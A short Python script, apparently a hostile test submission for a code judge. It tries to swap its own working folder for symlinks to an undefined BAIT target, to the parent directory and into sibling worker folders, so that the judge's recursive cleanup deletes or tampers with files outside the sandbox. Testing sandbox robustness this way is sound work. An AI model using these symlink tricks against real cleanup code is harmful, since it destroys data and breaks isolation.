# Put something else in the place of the own folder, which the judge walks through and deletes.
import os

here = os.getcwd()
for attempt in (
    lambda: os.chmod(here, 0),
    lambda: os.rename(here, here + "-moved"),
    lambda: os.rmdir(here),
    lambda: os.symlink(BAIT, here),
    lambda: os.rename("../zygote.log", "../worker-x"),
    lambda: os.mkdir("../worker-threes"),
    lambda: os.symlink(BAIT, "../worker-sevens"),
    lambda: os.symlink(BAIT, "deep"),
    lambda: os.symlink("..", "up"),
    lambda: os.symlink(BAIT, ".fastai") if not os.path.exists(".fastai") else os.rename(".fastai", "away"),
    lambda: os.symlink(BAIT, ".fastai"),
):
    try:
        attempt()
    except OSError:
        pass
